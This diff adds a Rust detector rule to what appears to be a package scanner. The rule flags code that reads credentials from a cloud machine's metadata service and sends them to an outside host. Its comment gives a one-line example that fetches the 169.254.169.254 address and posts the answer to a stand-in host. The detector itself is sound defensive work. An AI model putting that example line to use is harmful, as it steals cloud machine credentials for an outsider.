@@ -1,0 +1,55 @@
+//! What a cloud's metadata service answers is sent on.
+//!
+//! The service gives the machine's credentials to any program that asks from within. Clients of clouds ask it and keep what they get.
+//!
+//! **What to do:** do not run it on a cloud machine; where it ran, revoke the role's sessions. **Limits:** an answer that passes through a file is not
+//! followed. **Example:** `r = get('http://169.254.169.254/…'); post('https://x.invalid', r.text)`.
+
+use super::common::*;
+
+pub(super) const DETECTOR: Detector = Detector {
+    id: "behaviour/exfil-imds",
+    catalogue: "EXFIL-IMDS",
+    title: "forwards credentials of a cloud machine",
+    severity: Critical,
+    ecosystems: &[],
+    run,
+};
+
+fn run(package: &Package, findings: &mut Findings) {
+    let is_service = |fact: &Fact| {
+        matches!(fact.what, What::NetReceive | What::NetSend | What::ExecOutput)
+            && words::has(&fact.detail, Class::Imds)
+    };
+    for (code, from, to, _) in package.flows() {
+        let leaves =
+            matches!(to.what, What::NetSend | What::DnsQuery) && !words::has(&to.detail, Class::Imds);
+        if is_service(from) && leaves {
+            let abroad = foreign(&to.detail).is_some();
+            let grade = match (early(code, to), abroad) {
+                (_, true) => (Critical, Sure),
+                (true, false) => (Critical, Likely),
+                (false, false) => (Medium, Hint),
+            };
+            findings.tell(
+                code,
+                to,
+                grade,
+                &format!("forwards what the cloud's metadata service answers to {}", host(&to.detail)),
+            );
+        }
+    }
+    for code in &package.code {
+        let asks = code.facts.facts.iter().find(|fact| is_service(fact) && early(code, fact));
+        let sends = of_file(code, What::NetSend)
+            .any(|fact| foreign(&fact.detail).is_some_and(|_| !words::has(&fact.detail, Class::Imds)));
+        if let Some(fact) = asks.filter(|_| sends) {
+            findings.tell(
+                code,
+                fact,
+                (High, Likely),
+                &format!("asks the cloud's metadata service and sends something abroad {}", when(code, fact)),
+            );
+        }
+    }
+}
